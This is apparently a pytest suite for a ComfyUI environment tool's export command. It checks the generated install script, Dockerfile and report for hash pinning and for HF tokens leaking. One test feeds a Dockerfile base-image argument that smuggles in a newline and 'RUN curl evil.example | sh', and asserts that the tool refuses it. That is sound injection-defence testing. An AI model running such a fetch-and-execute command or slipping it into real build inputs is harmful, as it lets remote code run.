"""`comfyver export`: the install script really installs (and is checked by verify), Dockerfile, report."""

from __future__ import annotations

import json
import os
import shutil
import subprocess

import pytest
from comfyver.base import lockfile
from comfyver.cli import main
from comfyver.realize import export, realize, verify

from tests.test_realize_helpers import ZIP_NODE, add_zip_node, make_project, model_gets

KEY = "comfyver_test/tiny.bin"


@pytest.fixture(autouse=True)
def _uv_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv-cache"))


@pytest.fixture
def proj(tmp_path, git_server, http_server):
    p = make_project(tmp_path, git_server, http_server)
    add_zip_node(p, http_server, tmp_path)
    return p


def export_text(capsys, proj, fmt, *extra) -> str:
    assert main(["--root", str(proj.root), "export", proj.vid, "--format", fmt, *extra]) == 0
    return capsys.readouterr().out


def run_script(script_path, dest, store, **env):
    return subprocess.run(["bash", str(script_path), str(dest)], capture_output=True, text=True,
                          env={**os.environ, "COMFYVER_MODELS": str(store), **env})


def test_script_installs_what_verify_accepts_and_realize_reuses(proj, tmp_path, capsys):
    script = tmp_path / "install.sh"
    assert main(["--root", str(proj.root), "export", proj.vid, "--format", "script", "-o", str(script)]) == 0
    assert os.access(script, os.X_OK)
    dest, store = tmp_path / "pod" / "comfyui", tmp_path / "volume" / "models"
    done = run_script(script, dest, store)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == str(dest)
    assert (dest / "custom_nodes" / ZIP_NODE / "bin/tool.sh").stat().st_mode & 0o100
    assert (dest / "models" / KEY).resolve().parent == (store / "sha256").resolve()
    assert verify.verify(proj.root, proj.vid, dest, deep=True) == []
    inode = (dest / "main.py").stat().st_ino
    realize.realize(proj.root, proj.vid, dest, models_dir=store)  # same layout and marker: nothing to do
    assert (dest / "main.py").stat().st_ino == inode
    # a second run replaces the folder in one rename and reuses the model store
    again = run_script(script, dest, store)
    assert again.returncode == 0, again.stderr
    assert verify.verify(proj.root, proj.vid, dest) == []
    assert [p.name for p in dest.parent.iterdir() if p.name.startswith(".comfyui.")] == [".comfyui.lock"]


def test_script_refuses_a_changed_model_and_leaves_nothing(proj, tmp_path, capsys, http_server):
    script = tmp_path / "install.sh"
    script.write_text(export_text(capsys, proj, "script"))
    (http_server.files_root / proj.model_url_path[KEY]).write_bytes(b"x" * len(proj.model_bytes[KEY]))
    dest, store = tmp_path / "pod", tmp_path / "store"
    done = run_script(script, dest, store)
    assert done.returncode != 0
    assert f"model {KEY}: sha256 differs from the lock" in done.stderr
    assert not dest.exists() and not list(tmp_path.glob(".pod.tmp-*"))
    assert not list((store / "sha256").glob("[0-9a-f]" * 64))


def test_script_refuses_a_source_whose_nar_hash_differs(proj, tmp_path, capsys):
    proj.lock["nodes"]["comfyui-text-node"]["locked"]["hash"] = "sha256-" + "B" * 43 + "="
    lockfile.write(proj.vdir / "version.json", proj.lock)
    script = tmp_path / "install.sh"
    script.write_text(export_text(capsys, proj, "script"))
    done = run_script(script, tmp_path / "pod", tmp_path / "store")
    assert done.returncode != 0 and "node comfyui-text-node: NAR hash sha256-" in done.stderr
    assert not (tmp_path / "pod").exists()


def test_tokens_are_sent_only_at_install_time_and_never_written(proj, tmp_path, capsys, http_server, monkeypatch):
    monkeypatch.setenv("HF_ENDPOINT", http_server.url)
    monkeypatch.setenv("HF_TOKEN", "hf_secret_export_token")
    proj.lock["models"][KEY]["locked"]["auth"] = "hf"
    lockfile.write(proj.vdir / "version.json", proj.lock)
    text = export_text(capsys, proj, "script")
    docker = export_text(capsys, proj, "dockerfile")
    assert "hf_secret_export_token" not in text + docker
    assert "--mount=type=secret,id=HF_TOKEN,env=HF_TOKEN" in docker
    script = tmp_path / "install.sh"
    script.write_text(text)
    # every curl/wget the script starts records its command line (what `ps` would show)
    spy = tmp_path / "spy"
    spy.mkdir()
    for tool in ("curl", "wget"):
        real = shutil.which(tool)
        if real:
            (spy / tool).write_text(f'#!/bin/sh\necho "$0 $*" >> {tmp_path}/argv.log\nexec {real} "$@"\n')
            (spy / tool).chmod(0o755)
    done = run_script(script, tmp_path / "pod", tmp_path / "store", PATH=f"{spy}:{os.environ['PATH']}")
    assert done.returncode == 0, done.stderr
    assert "hf_secret_export_token" not in done.stdout + done.stderr
    got = model_gets(http_server, proj.model_url_path[KEY])
    assert got[-1]["headers"].get("Authorization") == "Bearer hf_secret_export_token"
    argv = (tmp_path / "argv.log").read_text()
    assert "curl" in argv and "hf_secret_export_token" not in argv


def test_dockerfile_is_pinned_and_embeds_the_script(proj, capsys):
    text = export_text(capsys, proj, "dockerfile", "--base", "python@sha256:" + "a" * 64)
    lines = text.splitlines()
    assert lines[0] == "# syntax=docker/dockerfile:1.10"
    assert "FROM python@sha256:" + "a" * 64 in lines and "NOTE: the base image" not in text
    assert any(line.startswith("COPY --from=ghcr.io/astral-sh/uv:0.") for line in lines)
    body = text.split("COPY <<'COMFYVER_INSTALL_SCRIPT' /opt/comfyver/install.sh\n", 1)[1].split("\nCOMFYVER_INSTALL_SCRIPT\n")[0]
    assert body + "\n" == export.script(proj.root, proj.vid)
    assert proj.lock["comfyui"]["locked"]["rev"] in body and proj.lock["models"][KEY]["locked"]["sha256"] in body
    assert "NOTE: the base image" in export_text(capsys, proj, "dockerfile")  # a tag is called out


def test_report_lists_nodes_revs_models_sizes_and_packages(proj, capsys):
    rep = json.loads(export_text(capsys, proj, "report"))
    assert rep["id"] == proj.vid and rep["lockDigest"] == lockfile.lock_digest(proj.lock)
    assert rep["comfyui"]["rev"] == proj.lock["comfyui"]["locked"]["rev"]
    nodes = {n["name"]: n for n in rep["nodes"]}
    assert nodes["comfyui-text-node"]["rev"] == proj.lock["nodes"]["comfyui-text-node"]["locked"]["rev"]
    assert nodes[ZIP_NODE]["type"] == "zip" and nodes[ZIP_NODE]["version"] == "1.0"
    assert rep["models"] == [{"path": KEY, "url": proj.lock["models"][KEY]["locked"]["url"],
                              "sha256": proj.lock["models"][KEY]["locked"]["sha256"], "size": 300_000, "auth": None}]
    assert rep["modelBytes"] == 300_000
    pkgs = {p["name"]: p for p in rep["python"]["packages"]}
    assert set(pkgs) == {"six", "idna"}
    assert pkgs["six"]["version"] == "1.16.0" and all(h.startswith("sha256:") for h in pkgs["six"]["hashes"])


def test_export_of_an_unknown_version(proj, capsys):
    assert main(["--root", str(proj.root), "export", "nope", "--format", "report"]) == 1
    assert "no such version lock" in capsys.readouterr().err


def test_dockerfile_base_with_a_newline_is_refused(proj, capsys):
    rc = main(["--root", str(proj.root), "export", proj.vid, "--format", "dockerfile", "--base",
               "python:3.12\nRUN curl evil.example | sh"])
    assert rc == 2 and "is not an image reference" in capsys.readouterr().err


def test_json_says_what_was_written(proj, tmp_path, capsys):
    script = tmp_path / "install.sh"
    assert main(["--root", str(proj.root), "export", proj.vid, "--format", "script", "-o", str(script), "--json"]) == 0
    out = capsys.readouterr()
    assert json.loads(out.out) == {"id": proj.vid, "format": "script", "path": str(script),
                                   "bytes": script.stat().st_size}
    assert str(script) not in out.err and os.access(script, os.X_OK)
    # no -o: the artifact travels in the object
    assert main(["--root", str(proj.root), "export", proj.vid, "--json"]) == 0
    d = json.loads(capsys.readouterr().out)
    assert (d["format"], d["path"], d["bytes"]) == ("report", None, len(d["text"].encode()))
    assert json.loads(d["text"]) == export.report(proj.root, proj.vid)
    assert main(["--root", str(proj.root), "export", "nope", "--json"]) == 1
    assert "nope" in json.loads(capsys.readouterr().out)["error"]
